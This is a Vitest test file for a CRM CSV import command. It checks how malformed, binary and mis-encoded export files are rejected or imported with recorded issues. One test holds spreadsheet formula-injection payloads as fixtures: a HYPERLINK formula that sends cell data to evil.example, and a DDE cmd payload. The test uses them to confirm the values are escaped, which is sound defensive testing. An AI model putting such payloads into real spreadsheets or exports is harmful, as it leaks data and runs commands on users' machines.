import { copyFileSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { importCrmFiles } from '../../extract/crm/importCrm.js';
import { Warehouse } from '../../warehouse/warehouse.js';
import { hostileFiles } from '../fixtures/crm/hostile.js';
import { fixture, runCli, snapshotCrm, tempDir, withWarehouse } from './support.js';

/**
 * Every file goes through the real command in a child process, against a
 * warehouse that already holds an import, so "unchanged" means something.
 */
let dir: ReturnType<typeof tempDir>;
let seeded: string;

beforeAll(async () => {
  dir = tempDir('tributary-crm-hostile-');
  for (const [name, bytes] of Object.entries(hostileFiles)) writeFileSync(join(dir.path, name), bytes);
  seeded = join(dir.path, 'seeded.duckdb');
  const warehouse = await Warehouse.open({ path: seeded });
  await importCrmFiles({ warehouse, files: [fixture('hubspot/contacts.csv')] });
  await warehouse.checkpoint();
  await warehouse.close();
});

afterAll(() => dir.remove());

let copies = 0;
function freshWarehouse(): string {
  const path = join(dir.path, `warehouse-${++copies}.duckdb`);
  copyFileSync(seeded, path);
  return path;
}

async function importFile(name: string, extraArgs: string[] = []) {
  const db = freshWarehouse();
  const file = join(dir.path, name);
  const before = await snapshotCrm(db);
  const result = await runCli(['import', 'crm', file, ...extraArgs], { db });
  return { db, file, before, result };
}

describe('files that cannot be read as a table: exit 1, file and line named, warehouse unchanged', () => {
  const cases: [name: string, line: number, message: string | RegExp][] = [
    ['empty.csv', 1, 'the file is empty (0 bytes); export the records again.'],
    ['blank-lines.csv', 1, 'the file holds only blank lines.'],
    ['image.png', 1, 'the file is a PNG image, not a CSV export.'],
    ['workbook.xlsx', 1, 'the file is a ZIP archive (an .xlsx workbook?): save it from the spreadsheet as CSV.'],
    ['random.bin', 2, 'the file holds NUL bytes (byte 146); it is binary or damaged, not a CSV export.'],
    ['nul-in-row.csv', 4, /^the file holds NUL bytes \(byte \d+\); it is binary or damaged, not a CSV export\.$/],
    ['nul-late.csv', 20002, /^the file holds a NUL byte \(byte \d+\); it is binary or damaged, not a CSV export\.$/],
    ['unclosed-quote.csv', 3, 'a quoted field starts on this line and is never closed before the end of the file.'],
    ['stray-quote.csv', 2, 'a quote appears inside an unquoted field; the field must be quoted whole ("...""...").'],
    ['text-after-quote.csv', 3, 'text follows a closing quote before the next delimiter; the file is not valid CSV.'],
    ['header-quote.csv', 1, 'the header row opens a quote it never closes.'],
    ['no-header.csv', 1, /^the first line looks like data rather than a header row \('101', 'Ada', 'Lovelace', 'ada@example\.com'\)/],
    ['unknown-headers.csv', 1, /^the headers \('Name', 'Plan', 'Seats'\) are not a HubSpot, Salesforce or Pipedrive export\. Expected HubSpot contacts export: 'Record ID' \+ 'Email'/],
    ['no-identifying-column.csv', 1, "no identifying column: a Pipedrive deals export needs a record id or email column ('Deal - ID' or 'ID')."],
    ['mixed-delimiters.csv', 2, 'mixed delimiters: the header is separated by commas but this line by semicolons; save the whole file again with one delimiter.'],
    ['latin1.csv', 3, 'byte 0xE9 is not UTF-8, so the file uses another encoding; save it as UTF-8 (or pass --encoding windows-1252 if that is what it is).'],
    ['latin1-late.csv', 20002, 'byte 0xE9 is not UTF-8, so the file uses another encoding; save it as UTF-8 (or pass --encoding windows-1252 if that is what it is).'],
    ['utf32.csv', 1, 'the file is UTF-32, which we do not read; save it as UTF-8.'],
  ];

  it.each(cases)('%s fails at line %i', async (name, line, message) => {
    const { db, file, before, result } = await importFile(name);
    expect(result.status).toBe(1);
    const prefix = `error: ${file} line ${line}: `;
    expect(result.stderr.startsWith(prefix), result.stderr).toBe(true);
    const sentence = result.stderr.slice(prefix.length).trimEnd();
    if (typeof message === 'string') expect(sentence).toBe(message);
    else expect(sentence).toMatch(message);
    expect(result.stderr.trimEnd().split('\n')).toHaveLength(1);
    expect(await snapshotCrm(db)).toEqual(before);
  });

  it('a file that does not exist names itself', async () => {
    const db = freshWarehouse();
    const result = await runCli(['import', 'crm', join(dir.path, 'missing.csv')], { db });
    expect(result.status).toBe(1);
    expect(result.stderr).toBe(`error: ${join(dir.path, 'missing.csv')}: cannot read the file (no such file).\n`);
  });

  it('a record longer than the limit (an unclosed quote swallowing the file) fails without reading it all into memory', async () => {
    const db = freshWarehouse();
    const warehouse = await Warehouse.open({ path: db });
    const before = await warehouse.all('select count(*) as n from raw_crm.contacts');
    const file = join(dir.path, 'runaway.csv');
    writeFileSync(file, `Record ID,Email,Message\n1,a@example.com,"${'x'.repeat(200_000)}\n2,b@example.com,hello\n`);
    await expect(importCrmFiles({ warehouse, files: [file], system: 'generic', maxRecordBytes: 64 * 1024 })).rejects.toThrow(
      `${file} line 2: the record starting on this line is longer than 64 KB, most likely a quote that is never closed.`,
    );
    expect(await warehouse.all('select count(*) as n from raw_crm.contacts')).toEqual(before);
    await warehouse.close();
  });
});

describe('encodings and line endings that are read, not refused', () => {
  it.each([
    ['utf16le-bom.txt', [{ record_id: '201', first_name: 'Zoë', last_name: 'Müller', email: 'zoe@example.de' }, { record_id: '202', first_name: '李', last_name: '小龍', email: 'li@example.cn' }], 'utf-16le'],
    ['utf16be-bom.csv', [{ record_id: '301', first_name: 'Åsa', last_name: null, email: 'asa@example.se' }], 'utf-16be'],
    ['utf16le-no-bom.csv', [{ record_id: '401', first_name: 'Renée', last_name: null, email: 'renee@example.fr' }], 'utf-16le'],
  ])('%s is decoded', async (name, expected, encoding) => {
    const { db, result } = await importFile(name);
    expect(result.status, result.stderr).toBe(0);
    await withWarehouse(db, async (warehouse) => {
      const ids = expected.map((row) => row.record_id);
      expect(await warehouse.all(`select record_id, first_name, last_name, email from raw_crm.contacts where record_id in (${ids.map((id) => `'${id}'`).join(', ')}) order by record_id`)).toEqual(expected);
      expect(await warehouse.one(`select encoding from raw_crm.imports order by imported_at desc limit 1`)).toEqual({ encoding });
    });
  });

  it('Windows-1252 imports when named with --encoding', async () => {
    const { db, result } = await importFile('latin1.csv', ['--encoding', 'windows-1252']);
    expect(result.status, result.stderr).toBe(0);
    await withWarehouse(db, async (warehouse) => {
      expect(await warehouse.one(`select first_name, email from raw_crm.contacts where record_id = '102'`)).toEqual({ first_name: 'René', email: 'rene@example.com' });
    });
  });

  it('old Mac line endings (CR only) keep their line numbers', async () => {
    const { db, result } = await importFile('cr-line-endings.csv');
    expect(result.status, result.stderr).toBe(0);
    await withWarehouse(db, async (warehouse) => {
      expect(await warehouse.all(`select record_id, line, email from raw_crm.contacts where record_id in ('101', '102', '103') order by line`)).toEqual([
        { record_id: '101', line: 2, email: 'ada@example.com' },
        { record_id: '102', line: 3, email: 'alan@example.com' },
        { record_id: '103', line: 4, email: 'grace@example.com' },
      ]);
    });
  });
});

describe('rows with a problem of their own: exit 0, the row kept, the issue recorded', () => {
  async function issuesOf(db: string) {
    return withWarehouse(db, (warehouse) =>
      warehouse.all(
        `select line, column_name, value, reason from raw_crm.import_issues where import_id = (select import_id from raw_crm.imports order by imported_at desc limit 1) order by line, column_name nulls first`,
      ),
    );
  }

  it('ragged rows: cells kept by position, extra cells under "column N"', async () => {
    const { db, result } = await importFile('ragged-rows.csv');
    expect(result.status, result.stderr).toBe(0);
    expect(result.stdout).toContain('3 rows into raw_crm.contacts: 3 new');
    expect(await issuesOf(db)).toEqual([
      { line: 3, column_name: null, value: '3', reason: 'the row has 3 fields where the header has 6; cells are kept by position' },
      { line: 4, column_name: null, value: '8', reason: 'the row has 8 fields where the header has 6; cells are kept by position, the extra ones under "column N"' },
    ]);
    await withWarehouse(db, async (warehouse) => {
      expect(await warehouse.one(`select email, data::varchar as data from raw_crm.contacts where record_id = '102'`)).toEqual({
        email: null,
        data: '{"Record ID":"102","First Name":"Alan","Last Name":"Turing"}',
      });
      const grace = await warehouse.one<{ data: string }>(`select data::varchar as data from raw_crm.contacts where record_id = '103'`);
      expect(JSON.parse(grace!.data)).toMatchObject({ Email: 'grace@example.com', 'column 7': 'extra one', 'column 8': 'extra two' });
    });
  });

  it('a 2 MB field is kept whole, also when a worker thread parses the file', async () => {
    const db = freshWarehouse();
    await withWarehouse(db, async (warehouse) => {
      await importCrmFiles({ warehouse, files: [join(dir.path, 'huge-field.csv')], parseThreadFromBytes: 0 });
      expect(await warehouse.one(`select length(data->>'Message') as n from raw_crm.contacts where record_id = '501'`)).toEqual({ n: 2_200_000 });
    });
  });

  it('a 2 MB field is kept whole', async () => {
    const { db, result } = await importFile('huge-field.csv');
    expect(result.status, result.stderr).toBe(0);
    await withWarehouse(db, async (warehouse) => {
      expect(await warehouse.one(`select length(data->>'Message') as n, email from raw_crm.contacts where record_id = '501'`)).toEqual({ n: 2_200_000, email: 'big@example.com' });
    });
  });

  it('formula-looking cells are stored verbatim and escaped in the issues CSV', async () => {
    const issuesCsv = join(dir.path, 'formula-issues.csv');
    const { db, result } = await importFile('formula-cells.csv', ['--issues-csv', issuesCsv]);
    expect(result.status, result.stderr).toBe(0);
    await withWarehouse(db, async (warehouse) => {
      expect(await warehouse.all(`select record_id, first_name, last_name, email, data->>'Email' as raw_email from raw_crm.contacts where record_id in ('601', '602') order by record_id`)).toEqual([
        { record_id: '601', first_name: '=HYPERLINK("http://evil.example/?"&A1;"click")', last_name: '+1+2', email: null, raw_email: '=1+1' },
        { record_id: '602', first_name: '-2+3', last_name: '@SUM(A1:A9)', email: null, raw_email: "=cmd|' /C calc'!A0" },
      ]);
    });
    const csv = readFileSync(issuesCsv, 'utf8').split('\r\n');
    expect(csv[0]).toBe('import_id,file,line,column,value,reason');
    expect(csv[1]).toMatch(/,2,Email,'=1\+1,not a valid email address$/);
    expect(csv[2]).toMatch(/,3,Email,'=cmd\|' \/C calc'!A0,not a valid email address$/);
  });

  it('malformed emails are left NULL with an issue each', async () => {
    const { db, result } = await importFile('malformed-emails.csv');
    expect(result.status, result.stderr).toBe(0);
    expect(result.stdout).toContain("line 2, Email 'not-an-email': not a valid email address");
    expect(await issuesOf(db)).toEqual([
      { line: 2, column_name: 'Email', value: 'not-an-email', reason: 'not a valid email address' },
      { line: 3, column_name: 'Email', value: 'two@@example.com', reason: 'not a valid email address' },
      { line: 4, column_name: 'Email', value: 'spaces in@example.com', reason: 'not a valid email address' },
      { line: 5, column_name: 'Email', value: 'nodomain@', reason: 'not a valid email address' },
    ]);
    await withWarehouse(db, async (warehouse) => {
      expect(await warehouse.one(`select count(*) as n, count(email) as emails from raw_crm.contacts where record_id between '701' and '704'`)).toEqual({ n: 4, emails: 0 });
    });
  });

  it('unreadable dates are left NULL with an issue each', async () => {
    const { db, result } = await importFile('bad-dates.csv');
    expect(result.status, result.stderr).toBe(0);
    const reason = 'not a date we can read (expected e.g. 2024-03-15, 2024-03-15 14:02, 3/15/2024 2:02 PM, 15.03.2024)';
    expect(await issuesOf(db)).toEqual([
      { line: 2, column_name: 'Create Date', value: '2024-02-30', reason },
      { line: 3, column_name: 'Create Date', value: 'next tuesday', reason },
      { line: 4, column_name: 'Create Date', value: '31/31/2024', reason },
    ]);
  });

  it('a repeated record id: the last line wins, the earlier one becomes an issue', async () => {
    const { db, result } = await importFile('duplicate-ids.csv');
    expect(result.status, result.stderr).toBe(0);
    expect(result.stdout).toContain('3 rows into raw_crm.contacts: 2 new, 0 updated, 0 unchanged, 1 superseded by a later line with the same record id; 1 issue');
    expect(await issuesOf(db)).toEqual([
      { line: 2, column_name: 'Record ID', value: '901', reason: 'duplicate record id: line 4 has the same record id and is kept in place of this row' },
    ]);
    await withWarehouse(db, async (warehouse) => {
      expect(await warehouse.all(`select line, lifecycle_stage from raw_crm.contacts where record_id = '901'`)).toEqual([{ line: 4, lifecycle_stage: 'customer' }]);
    });
  });

  it('two exports joined into one: the stray BOM is removed and the repeated header is not a record', async () => {
    const { db, result } = await importFile('joined-exports.csv');
    expect(result.status, result.stderr).toBe(0);
    expect(await issuesOf(db)).toEqual([
      { line: 4, column_name: null, value: null, reason: 'this line repeats the header row (two exports joined into one?); it is not a record and was skipped' },
      { line: 4, column_name: 'Record ID', value: null, reason: 'a byte-order mark in the middle of the file (two exports joined into one?); it was removed' },
    ]);
    await withWarehouse(db, async (warehouse) => {
      expect(await warehouse.all(`select record_id, line from raw_crm.contacts where record_id in ('101', '102', '103') order by line`)).toEqual([
        { record_id: '101', line: 2 },
        { record_id: '102', line: 3 },
        { record_id: '103', line: 5 },
      ]);
    });
  });

  it('blank lines between rows are skipped and counted', async () => {
    const { db, result } = await importFile('blank-lines-between.csv');
    expect(result.status, result.stderr).toBe(0);
    await withWarehouse(db, async (warehouse) => {
      expect(await warehouse.all(`select record_id, line from raw_crm.contacts where record_id in ('101', '102', '103') order by line`)).toEqual([
        { record_id: '101', line: 2 },
        { record_id: '102', line: 4 },
        { record_id: '103', line: 7 },
      ]);
    });
  });

  it('a header with no rows imports nothing, successfully', async () => {
    const { db, before, result } = await importFile('header-only.csv');
    expect(result.status, result.stderr).toBe(0);
    expect(result.stdout).toContain('0 rows into raw_crm.contacts');
    const after = await snapshotCrm(db);
    expect(after['raw_crm.contacts']).toEqual(before['raw_crm.contacts']);
  });
});
